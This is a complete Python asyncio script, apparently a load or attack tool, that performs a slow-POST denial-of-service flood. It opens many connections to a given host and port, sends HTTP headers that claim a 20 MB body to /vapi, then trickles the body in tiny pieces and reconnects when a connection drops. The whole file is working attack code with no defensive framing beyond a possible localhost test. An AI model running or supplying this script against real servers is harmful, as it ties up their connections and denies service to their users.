"""Many connections that each send the head of a large report and then a little of its body, again and again.

python flood.py HOST PORT CONNECTIONS BYTES_PER_SECOND SECONDS [HEADER …]
"""

import asyncio
import contextlib
import sys

PIECES_PER_SECOND = 2


async def attacker(host: str, port: int, head: bytes, piece: bytes, until: float) -> None:
    loop = asyncio.get_running_loop()
    while loop.time() < until:
        with contextlib.suppress(OSError):
            reader, writer = await asyncio.open_connection(host, port)
            writer.write(head)
            while loop.time() < until and not writer.is_closing() and not reader.at_eof():
                writer.write(piece)
                await writer.drain()
                await asyncio.sleep(1 / PIECES_PER_SECOND)
            writer.close()
        await asyncio.sleep(0.2)


async def main(host: str, port: str, connections: str, rate: str, seconds: str, *headers: str) -> None:
    lines = ["POST /vapi HTTP/1.1", "host: localhost", "content-length: 20000000", *headers]
    head = ("\r\n".join(lines) + "\r\n\r\n").encode()
    piece = b"x" * (int(rate) // int(connections) // PIECES_PER_SECOND)
    until = asyncio.get_running_loop().time() + float(seconds)
    await asyncio.gather(*(attacker(host, int(port), head, piece, until) for _ in range(int(connections))))


if __name__ == "__main__":
    asyncio.run(main(*sys.argv[1:]))
